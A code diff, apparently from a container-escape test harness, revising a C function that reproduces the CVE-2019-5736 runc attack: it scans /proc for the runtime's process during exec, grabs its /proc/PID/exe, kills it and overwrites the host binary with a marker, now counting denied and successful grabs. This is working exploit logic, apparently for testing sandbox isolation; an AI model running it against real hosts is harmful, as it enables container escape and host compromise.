@@ -108,37 +108,35 @@ static int is_digits(const char *s) {
     return 1;
 }
 
-/* CVE-2019-5736: find a process running the runtime's binary inside the
- * container (it got there through `exec` of a `#!/proc/self/exe` script),
- * stop it, take its /proc/PID/exe, and once it is gone overwrite the file. */
+/* CVE-2019-5736 class: while the runtime joins the container for `exec`,
+ * its process is briefly visible in the container's pid namespace before
+ * it executes the container's program. Grab /proc/PID/exe of every such
+ * process (anything not run from the container's own /bin), and once it
+ * is gone overwrite the file it pointed at. Prints how many processes were
+ * seen, how many refused the open, and the result of a successful grab. */
 static int exe_attack(const char *marker, int seconds) {
     pid_t self = getpid();
     time_t end = time(NULL) + seconds;
-    while (time(NULL) < end) {
+    int denied = 0, grabbed = 0;
+    while (time(NULL) < end && !grabbed) {
         DIR *d = opendir("/proc");
         struct dirent *e;
         while (d && (e = readdir(d))) {
             if (!is_digits(e->d_name)) continue;
             pid_t pid = atoi(e->d_name);
             if (pid == self || pid == 1) continue;
-            char path[64], cmd[256] = {0};
-            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
-            int c = open(path, O_RDONLY);
-            if (c < 0) continue;
-            ssize_t n = read(c, cmd, sizeof cmd - 1);
-            close(c);
-            if (n <= 0 || strcmp(cmd, "/proc/self/exe") != 0) continue;
-            kill(pid, SIGSTOP);
+            char path[64], target[256] = {0};
             snprintf(path, sizeof path, "/proc/%d/exe", pid);
             int fd = open(path, O_RDONLY | O_CLOEXEC);
             if (fd < 0) {
-                report("open_exe", -1);
-                kill(pid, SIGKILL);
+                if (errno == EACCES || errno == EPERM) denied++;
                 continue;
             }
-            report("open_exe", 0);
-            char target[256] = {0};
-            readlink(path, target, sizeof target - 1);
+            if (readlink(path, target, sizeof target - 1) < 0 || strncmp(target, "/bin/", 5) == 0) {
+                close(fd);
+                continue;
+            }
+            grabbed = 1;
             printf("exe_target %s\n", target);
             kill(pid, SIGKILL);
             char self_fd[64];
@@ -154,12 +152,12 @@ static int exe_attack(const char *marker, int seconds) {
                 report("write_exe", write(w, marker, strlen(marker)));
                 close(w);
             }
-            closedir(d);
-            return 0;
+            break;
         }
         if (d) closedir(d);
     }
-    printf("no_runtime_process_seen 1\n");
+    printf("denied %d\ngrabbed %d\ndone 1\n", denied, grabbed);
+    fflush(stdout);
     return 0;
 }
 
